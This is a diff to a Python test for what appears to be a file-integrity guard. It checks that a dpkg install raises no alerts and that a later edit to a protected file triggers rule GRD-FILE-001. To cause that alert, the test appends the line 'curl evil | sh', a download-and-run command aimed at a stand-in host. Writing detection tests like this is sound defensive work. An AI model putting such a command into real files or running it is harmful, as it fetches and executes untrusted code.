@@ -75,7 +75,8 @@ def test_dpkg_install_is_verified_and_raises_nothing(guard: GuardRun, tmp_path: 
     guard.wait_for(lambda: verified_in_log(guard, tool), "verification of the dpkg write")
     assert guard.sh(f"test -L {wants}/grd.service").returncode == 0  # the postinst ran
     guard.settle()
-    assert guard.rules_seen() == set()
+    unexpected = [(a.rule_id, a.summary) for a in guard.alerts()]
+    assert unexpected == [], "".join(guard.log[-30:])
     # A later edit by anything else is a plain protected-file change.
     guard.sh(f"echo 'curl evil | sh' >> {tool}")
     alert = guard.wait_rule("GRD-FILE-001")
